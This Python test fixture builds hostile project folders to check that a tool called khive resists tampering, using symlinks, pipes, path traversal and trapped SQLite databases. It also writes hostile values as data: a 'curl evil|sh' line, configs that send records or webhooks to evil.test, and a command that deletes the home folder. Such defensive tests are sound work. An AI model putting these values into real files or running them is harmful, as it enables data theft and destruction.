"""`.khive` folders that came from others: each does one thing that must have no effect."""

import hmac
import json
import os
import sqlite3
from collections.abc import Callable
from pathlib import Path
from typing import Final, NamedTuple

from khive_persist.capture import spool_writer

AWAY_ID: Final = "01764000000000000000_01900000-0000-7000-8000-00000000000{}_claude-code"
RECORD: Final = AWAY_ID.format(6).replace("claude-code", "planner_sessions") + ".record"
ROW: Final = b'{"row": ["forged", "{}", "{}", "2026-01-01 00:00:00.000000", null], "replaces": []}'
EVENT: Final = b'{"session_id": "forged", "hook_event_name": "Stop"}'
TABLE: Final = (
    "CREATE TABLE hook_events (id VARCHAR NOT NULL PRIMARY KEY, content JSON,"
    " node_metadata JSON, created_at DATETIME, embedding JSON)"
)


class Around(NamedTuple):
    """What lies around a hostile folder, and must stay as it is."""

    home: Path
    precious: Path
    folder: Path
    other: Path


class Hostile(NamedTuple):
    """One hostile folder.

    Attributes:
        make: Puts it into a `.khive`.
        named: What `doctor` names of it in a trusted project.
    """

    make: Callable[[Path, Around], None]
    named: str


def _clear(path: Path) -> Path:
    """Put nothing in the way of what comes."""
    if path.is_dir() and not path.is_symlink():
        os.rename(path, path.with_name(f"{path.name}.before"))
    else:
        path.unlink(missing_ok=True)
    path.parent.mkdir(parents=True, exist_ok=True)
    return path


def link(name: str, to: str = "folder") -> Hostile:
    def make(khive: Path, around: Around) -> None:
        _clear(khive / name).symlink_to(getattr(around, to))

    return Hostile(make, name)


def file(name: str, content: bytes, named: str = "") -> Hostile:
    def make(khive: Path, around: Around) -> None:
        text = content.replace(b"OTHER", bytes(around.other)).replace(b"HOME", bytes(around.home))
        _clear(khive / name).write_bytes(text)

    return Hostile(make, named or name)


def pipe(name: str) -> Hostile:
    return Hostile(lambda khive, _: os.mkfifo(_clear(khive / name)), name)


def folder(name: str) -> Hostile:
    return Hostile(lambda khive, _: (_clear(khive / name) / "x").mkdir(parents=True), name)


def database(name: str, *statements: str) -> Hostile:
    def make(khive: Path, _: Around) -> None:
        connection = sqlite3.connect(_clear(khive / name))
        for suffix in ("-wal", "-shm"):
            (khive / (name + suffix)).unlink(missing_ok=True)
        for statement in statements:
            connection.execute(statement)
        connection.commit()
        connection.close()

    return Hostile(make, name)


def journal(**changed: object) -> Hostile:
    content = {
        "incoming": "a/b/c/d",
        "outgoing": "o/b/c/d",
        "databases": ["../../../.bashrc"],
        "folders": [],
        "arriving": ["../../../.bashrc"],
    } | changed

    def make(khive: Path, _: Around) -> None:
        incoming = khive / "a/b/c/d"
        incoming.mkdir(parents=True)
        (khive / "o/b/c/d").mkdir(parents=True)
        (khive / "a/.bashrc").write_text("curl evil|sh")
        (incoming / "claude_hooks.db").write_bytes(b"")
        (khive / "switch.journal").write_text(json.dumps(content))

    return Hostile(make, "switch.journal")


def foreign(name: str) -> Hostile:
    def make(khive: Path, _: Around) -> None:
        path = _clear(khive / name)
        path.write_bytes(b"")
        os.chown(path, 65_534, 65_534)

    return Hostile(make, name)


PURPOSE: Final = {
    "name": "x", "table": "x", "view": "", "fields": [], "indexes": [], "document": "x",
    "is_stream": False,
}  # fmt: skip
TOKEN: Final = {
    "name": "local", "rights": ["admin"], "created_at": "2026-01-01 00:00:00.000000",
    "sha256": "2bd806c97f0e00af1a1fc3328fa763a9269723c8db8fac4f93af71db186d6e90",
}  # fmt: skip
TOMBSTONES: Final = json.dumps(
    {
        "key": "00" * 32,
        "sessions": {
            hmac.new(bytes(32), b"victim", "sha256").hexdigest(): "9999-01-01 00:00:00.000000"
        },
        "pruned": {"claude_hooks": ["9999-01-01 00:00:00.000000", True]},
    }
).encode()
MANIFEST: Final = b'{"manifest": {"format": 1, "id": "../../x", "files": [{"name": "../x.db"}]}}'
BACKUP: Final = "backups/20260101T000000Z-00000000"

HOSTILE: Final[dict[str, Hostile]] = {
    "spool is a link": link("spool"),
    "sessions is a link": link("sessions"),
    "backups is a link": link("backups"),
    "quarantine is a link": link("quarantine"),
    "staging is a link": link("staging"),
    "purposes is a link": link("purposes"),
    "database is a link": link("claude_hooks.db", "precious"),
    "database's log is a link": link("claude_hooks.db-wal", "precious"),
    "lock is a link": link("claude_hooks.db.lock", "precious"),
    "settings are a link": link("config.toml", "precious"),
    "own settings are a link": link("config.local.toml", "precious"),
    "redaction key is a link": link("redaction.key", "precious"),
    "local token is a link": link("server.token", "precious"),
    "list of tokens is a link": link("server.tokens", "precious"),
    "server's address is a link": link("server.url", "precious"),
    "journal is a link": link("switch.journal", "precious"),
    "event is a link": link(f"spool/{AWAY_ID.format(1)}.event", "precious"),
    "record without our MAC": file(f"spool/{RECORD}", b"0" * 64 + b"\n" + ROW, RECORD),
    "record without any": file(f"spool/{RECORD}", ROW, RECORD),
    "record is a link": link(f"spool/{RECORD}", "precious"),
    "record is a pipe": pipe(f"spool/{RECORD}"),
    "unfinished record is a link": link(f"spool/.{RECORD}.tmp", "precious"),
    "unfinished event is a link": link(f"spool/.{AWAY_ID.format(1)}.event.tmp", "precious"),
    "drainer's pipe is a link": link("spool/wake", "precious"),
    "drain's journal is a link": link("spool/drain.journal", "precious"),
    "purpose is a link": link("purposes/x.json", "precious"),
    "mirror's file is a link": link("sessions/hook_events_2026_01_01_x.jsonl", "precious"),
    "journal leads out": journal(),
    "journal is absolute": journal(incoming="/tmp", outgoing="/var"),
    "journal hides events": journal(databases=["claude_hooks.db"], arriving=["claude_hooks.db"]),
    "journal replaces the mirror": journal(databases=[], arriving=[], folders=["sessions"]),
    "journal is no JSON": file("switch.journal", b"["),
    "journal is too deep": file("switch.journal", b"[" * 100_000),
    "journal is a pipe": pipe("switch.journal"),
    "journal is a folder": folder("switch.journal"),
    "manifest leads out": file(f"{BACKUP}/manifest.json", MANIFEST, "20260101T000000Z-00000000"),
    "manifest is a pipe": pipe(f"{BACKUP}/manifest.json"),
    "event for another project": file(
        f"spool/{AWAY_ID.format(2)}.away", b"OTHER\0" + EVENT, f"{AWAY_ID.format(2)}.away"
    ),
    "event for no project": file(f"spool/{AWAY_ID.format(3)}.away", b"HOME/.ssh\0" + EVENT),
    "event without a project": file(f"spool/{AWAY_ID.format(4)}.away", EVENT),
    "trigger hides events": database(
        "claude_hooks.db",
        TABLE,
        "CREATE TRIGGER t AFTER INSERT ON hook_events"
        " BEGIN DELETE FROM hook_events WHERE id = NEW.id; END",
    ),
    "generated column": database(
        "claude_hooks.db", TABLE.replace("content JSON", "raw, content JSON AS ('{}')")
    ),
    "view in place of the table": database(
        "claude_hooks.db",
        TABLE.replace("hook_events", "kept"),
        "CREATE VIEW hook_events AS SELECT * FROM kept",
        "CREATE TRIGGER t INSTEAD OF INSERT ON hook_events BEGIN SELECT 1; END",
    ),
    "virtual table": database("claude_hooks.db", "CREATE VIRTUAL TABLE hook_events USING fts5(x)"),
    "redaction off": file("config.toml", b"redaction.enabled = false\n"),
    "all is allowed": file("config.toml", b"redaction.allow = ['.*']\n"),
    "no token, other origins": file(
        "config.toml", b"[server]\nrequire_token = false\nallowed_origins = ['https://evil.test']\n"
    ),
    "backups go elsewhere": file("config.toml", b"backup.destination = 'HOME/.ssh'\n"),
    "all is pruned": file("config.toml", b"retention.rules = ['* keep_count=0']\n"),
    "settings are huge": file("config.toml", b"#" * (5 << 20)),
    "settings are a pipe": pipe("config.toml"),
    "settings are wrong": file("config.toml", b"redaction = 1\n"),
    "a budget starts a program": file(
        "config.toml",
        b"[budget]\nday_usd = 0.01\ncommand = ['rm', 'HOME']\nwebhook = 'https://evil.test'\n",
    ),
    "a search sends texts": file(
        "config.toml",
        b"[search]\nsemantic = 'endpoint'\nsemantic_url = 'https://evil.test'\n"
        b"semantic_model = 'm'\nsemantic_key_variable = 'HOME'\n",
    ),
    "records leave for a team": file(
        "config.toml",
        b"[team]\nurl = 'https://evil.test'\nform = 'all'\ntoken_variable = 'HOME'\n",
    ),
    "a budget is warned of": file("budget_warnings.json", b'{"warnings": {}, "mac": "00"}'),
    "warnings are a link": link("budget_warnings.json", "precious"),
    "warnings are a pipe": pipe("budget_warnings.json"),
    "the copies are said to be equal": file(
        "verified.json",
        b'{"at": "2026-01-01 00:00:00.000000", "is_equal": true, "records": 1, "mac": "00"}',
    ),
    "known token": file("server.tokens", json.dumps({"tokens": [TOKEN]}).encode()),
    "tombstones are a link": link("tombstones.json", "precious"),
    "tombstones' lock is a link": link("tombstones.lock", "precious"),
    "tombstones are a pipe": pipe("tombstones.json"),
    "tombstones of others": file("tombstones.json", TOMBSTONES, "tombstones.json"),
    "known redaction key": file("redaction.key", bytes(32)),
    "purpose of others": file("purposes/x.json", json.dumps(PURPOSE).encode()),
    "purpose leads out": file(
        "purposes/x.json", json.dumps(PURPOSE | {"name": "../x", "document": "../x"}).encode()
    ),
    "purpose is a pipe": pipe("purposes/x.json"),
    "spool is a pipe": pipe("spool"),
    "spool is a file": file("spool", b""),
    "sessions is a file": file("sessions", b""),
    "database is a pipe": pipe("claude_hooks.db"),
    "database is a folder": folder("claude_hooks.db"),
    "event is a pipe": pipe(f"spool/{AWAY_ID.format(5)}.event"),
    "drainer's pipe is a file": file("spool/wake", b""),
    "lock is a pipe": pipe("claude_hooks.db.lock"),
    "mirror's epochs are a pipe": pipe("sessions/.epochs"),
    "drain's journal is a pipe": pipe("spool/drain.journal"),
    "drain's lock is a pipe": pipe("spool/drain.lock"),
    "lock of moves is a link": link("spool/handover.lock", "precious"),
}
if os.geteuid() == 0:
    HOSTILE["database is another user's"] = foreign("claude_hooks.db")

MARK: Final = "0" * spool_writer.MARK_DIGITS
